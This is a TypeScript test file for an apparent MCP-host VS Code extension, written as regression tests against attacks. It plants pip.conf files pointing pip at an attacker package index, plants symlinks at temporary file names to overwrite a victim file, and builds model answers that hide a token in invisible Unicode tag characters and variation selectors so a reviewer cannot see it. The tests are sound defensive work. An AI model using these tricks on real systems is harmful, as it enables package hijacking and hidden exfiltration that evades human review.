// Attacks on three small changes: first-start marks shared by every VS Code profile, pip.conf in the trust question,
// and the sampling answer review. Each test is one attack that worked on the code it was written against: it asserts
// what the user should see or get.
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { spawn } from 'child_process';
import { runnerFiles } from '../../src/core/protocol/launch/runnerSettings.lazy';
import { FirstStartMarks } from '../../src/core/host/firstStartMarks';
import { SharedStateFile, sharedStateDir } from '../../src/core/host/sharedStateFile.lazy';
import { settingsProblem } from '../../src/core/protocol/launch/sandboxProtection.lazy';
import { describeResult } from '../../src/core/features/sampling/samplingTools.lazy';
import { samplingReviewText } from '../../src/core/features/sampling/samplingQuestionText';
import { foldForDialog } from '../../src/core/presentation/foldedText';

describe('attacks on pip.conf in the trust question', () => {
  let dir: string;
  let home: string;
  beforeEach(() => {
    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-atk-pip-')));
    home = path.join(root, 'home');
    dir = path.join(root, 'repo');
    fs.mkdirSync(home);
    fs.mkdirSync(dir);
  });
  afterEach(() => fs.rmSync(path.dirname(dir), { recursive: true, force: true }));

  /** What the trust question lists of the runner's settings files: each file with its settings, one string. */
  const shown = (command: string, args: string[], env: Record<string, string> = {}): string =>
    runnerFiles(command, args, dir, env, home, { HOME: home })
      .map((f) => `${f.path} (read by ${f.reader}): ${f.settings.join(' · ')}`)
      .join('\n');

  /** A pip.conf in a HOME the repository ships, sending pip to another index. */
  const plantedHome = (section = 'global'): string => {
    const fakeHome = path.join(dir, 'conf');
    fs.mkdirSync(path.join(fakeHome, '.config', 'pip'), { recursive: true });
    fs.writeFileSync(path.join(fakeHome, '.config', 'pip', 'pip.conf'), `[${section}]\nindex-url = https://packages.attacker.example/simple\n`);
    return fakeHome;
  };

  it('PIP_CONFIG_FILE naming a file that does not exist, beside HOME: the pip.conf pip then reads from that HOME is listed', () => {
    // pip skips the user's files only when PIP_CONFIG_FILE exists; the entry names one that does not.
    const text = shown('pipx', ['run', 'some-mcp-server'], { HOME: plantedHome(), PIP_CONFIG_FILE: 'no-such-pip.conf' });
    assert.ok(text.includes('packages.attacker.example'), `the index pipx's pip installs from is shown: ${text || '(nothing listed)'}`);
  });

  it('python -m pipx run with HOME set by the entry: its pip.conf is listed as for pipx', () => {
    const text = shown('python3', ['-m', 'pipx', 'run', 'some-mcp-server'], { HOME: plantedHome('install') });
    assert.ok(text.includes('packages.attacker.example'), `the index python -m pipx installs from is shown: ${text || '(nothing listed)'}`);
    assert.ok(text.includes('python -m pipx'), text);
  });

  it('uv run -m pip with PIP_CONFIG_FILE: the pip.conf is listed, and uv.toml still is', () => {
    const file = path.join(dir, 'ci-pip.conf');
    fs.writeFileSync(file, '[install]\nextra-index-url = https://packages.attacker.example/simple\n');
    fs.writeFileSync(path.join(dir, 'uv.toml'), 'index-url = "https://uv.attacker.example/simple"\n');
    const text = shown('uv', ['run', '-m', 'pip', 'install', 'some-mcp-server'], { PIP_CONFIG_FILE: file });
    assert.ok(text.includes('packages.attacker.example'), `the index pip installs from is shown: ${text || '(nothing listed)'}`);
    assert.ok(text.includes('uv.attacker.example'), text);
  });
});

describe('attacks on the first-start marks shared by every VS Code profile', function () {
  this.timeout(60_000);
  let dir: string;
  beforeEach(() => {
    dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-atk-marks-')));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  /** One VS Code window of its own profile (a process) marking `names` one import at a time, as Import Servers… does. */
  const windowImporting = (file: string, names: readonly string[]): Promise<number | null> => {
    const host = path.join(__dirname, '..', '..', 'src', 'core', 'host');
    const script = `
      const { FirstStartMarks } = require(${JSON.stringify(path.join(host, 'firstStartMarks.js'))});
      const { EitherStore } = require(${JSON.stringify(path.join(host, 'eitherStore.js'))});
      const { SharedStateFile } = require(${JSON.stringify(path.join(host, 'sharedStateFile.lazy.js'))});
      const own = new Map();
      const profile = { get: (k) => own.get(k), update: async (k, v) => void own.set(k, v) };
      const marks = new FirstStartMarks(new EitherStore([profile, new SharedStateFile(${JSON.stringify(file)})]));
      (async () => { for (const name of ${JSON.stringify(names)}) await marks.mark('user-file', [name]); })();`;
    return new Promise((resolve) => spawn(process.execPath, ['-e', script], { stdio: 'ignore' }).on('exit', resolve));
  };

  it('two windows of two profiles importing at once: every entry either imported is still asked about in a third profile', async () => {
    const file = path.join(dir, 'mcp-host', 'first-start-marks.json');
    const names = (window: string) => Array.from({ length: 40 }, (_, i) => `${window}-server-${i}`);
    assert.deepStrictEqual(await Promise.all([windowImporting(file, names('a')), windowImporting(file, names('b')), windowImporting(file, names('c'))]), [0, 0, 0]);
    const third = new FirstStartMarks(new SharedStateFile(file));
    const unasked = [...names('a'), ...names('b'), ...names('c')].filter((n) => !third.has('user-file', n));
    assert.deepStrictEqual(unasked, [], `entries imported in another window that would start unasked in this profile: ${unasked.length}`);
    assert.deepStrictEqual(fs.readdirSync(path.dirname(file)), ['first-start-marks.json'], 'no temporary or lock file left behind');
  });

  it("another local process plants links at the temporary file's names (XDG_STATE_HOME in a shared folder): no file they lead to is written", async () => {
    const file = path.join(dir, 'mcp-host', 'first-start-marks.json');
    fs.mkdirSync(path.dirname(file));
    const victim = path.join(dir, 'victim.txt');
    fs.writeFileSync(victim, 'the user\'s own file\n');
    // The names a write used: the marks file, this process's id and the time, for the next few seconds.
    const now = Date.now();
    for (let t = now; t < now + 3000; t++) fs.symlinkSync(victim, `${file}.${process.pid}.${t}.tmp`);
    const marks = new FirstStartMarks(new SharedStateFile(file));
    await marks.mark('user-file', ['imported']);
    assert.strictEqual(fs.readFileSync(victim, 'utf8'), "the user's own file\n", 'the linked file is untouched');
    assert.ok(new FirstStartMarks(new SharedStateFile(file)).has('user-file', 'imported'), 'the mark is written all the same');
  });

  it('a relative XDG_STATE_HOME (VS Code started in a cloned repository) keeps the marks out of the repository, where a confined server given the folder could clear them', () => {
    const ctx = { home: '/home/ada', storage: '/home/ada/.config/Code/User/globalStorage/mcp-host', env: { XDG_STATE_HOME: 'state' } };
    const marksDir = sharedStateDir(ctx.env, 'linux', ctx.home);
    assert.ok(path.isAbsolute(marksDir), `the marks are kept in ${marksDir}, relative to the folder VS Code was started in`);
    assert.match(settingsProblem(marksDir, ctx) ?? '', /among the settings/, 'no confined server may be given the marks folder to write');
    assert.ok(path.win32.isAbsolute(sharedStateDir({ LOCALAPPDATA: 'AppData' }, 'win32', 'C:\\Users\\ada')));
  });
});

describe("attacks on sampling's answer review", () => {
  /** What the review dialog shows of a model's answer (askFolded: the review's text, folded for a dialog). */
  const reviewed = (text: string): string => foldForDialog(samplingReviewText({ serverName: 'asking', modelName: 'Fake Model', responseText: describeResult({ role: 'assistant', model: 'fake', content: { type: 'text', text } }) }).detail).shown;
  /** Text written in Unicode tag characters: invisible in a dialog, read by the server (and by models) as ASCII. */
  const tagged = (text: string): string => [...text].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');

  it('an answer smuggling a secret in invisible Unicode tag characters after "Done.": the review shows every one of them', () => {
    const shown = reviewed(`Done.${tagged('token=ghp_123')}`);
    assert.ok(!/[\u{e0000}-\u{e007f}]/u.test(shown), `no tag character reaches the dialog: ${JSON.stringify(shown.slice(-200))}`);
    assert.ok(shown.includes('Done.\\u{e0074}\\u{e006f}'), shown.slice(-300));
  });

  it('an answer carrying data in variation selectors (emoji smuggling) and soft hyphens and Hangul fillers: each shows as an escape; a plain emoji stays as it is', () => {
    const smuggled = `OK\u{1f44d}${[...'\ufe00\ufe01\u{e0100}\u{e01ef}'].join('')} fine\u00ad\u3164\u115f`;
    const shown = reviewed(`${smuggled}\n\u2764\ufe0f thanks`);
    for (const hidden of ['fe00', 'fe01', 'e0100', 'e01ef', 'ad', '3164', '115f']) assert.ok(shown.includes(`\\u{${hidden}}`), `${hidden} shown as an escape: ${shown.slice(-300)}`);
    assert.ok(shown.includes('\u2764\ufe0f thanks'), 'an emoji with its one presentation selector is left alone');
  });
});
